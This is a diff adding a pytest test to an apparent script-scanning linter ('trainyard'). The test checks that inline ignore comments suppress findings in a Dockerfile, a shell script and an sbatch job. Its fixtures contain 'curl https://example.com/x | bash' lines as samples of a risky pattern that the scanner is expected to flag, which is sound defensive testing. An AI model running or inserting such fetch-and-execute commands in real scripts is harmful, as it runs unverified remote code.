@@ -86,5 +86,26 @@ def test_files_of_other_tools_are_suppressed_alike(tmp_path):
     assert result.foreign == "eksctl"
 
 
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("Dockerfile", "FROM ubuntu:22.04\n# trainyard: ignore ID: known\nRUN curl https://example.com/x | bash\n"),
+        ("run.sh", "#!/bin/bash\nset -e\ncurl https://example.com/x | bash  # trainyard: ignore ID: known\n"),
+        ("job.sbatch", "#!/bin/bash\n#SBATCH -N 2\n# trainyard: ignore ID: known\ncurl https://example.com/x | sh\n"),
+    ],
+)
+def test_scripts_are_suppressed_alike(tmp_path, name: str, text: str):
+    file = tmp_path / name
+    file.write_text(text)
+    (line,) = (number for number, line in enumerate(text.splitlines(), 1) if line.startswith(("curl", "RUN")))
+    about_line = {finding.id for finding in check_any_file(str(file)).findings if finding.line == line}
+    found = {id_ for id_ in about_line if not id_.startswith("suppression-")}
+    assert found
+    file.write_text(text.replace("ID", ", ".join(sorted(found))))
+    result = check_any_file(str(file))
+    assert {finding.id for finding in result.suppressed} == found
+    assert not [finding for finding in result.findings if finding.line == line]
+
+
 def test_every_finding_about_a_comment_is_a_warning():
     assert {kind.severity for kind in suppression_kinds().values()} == {"warning"}
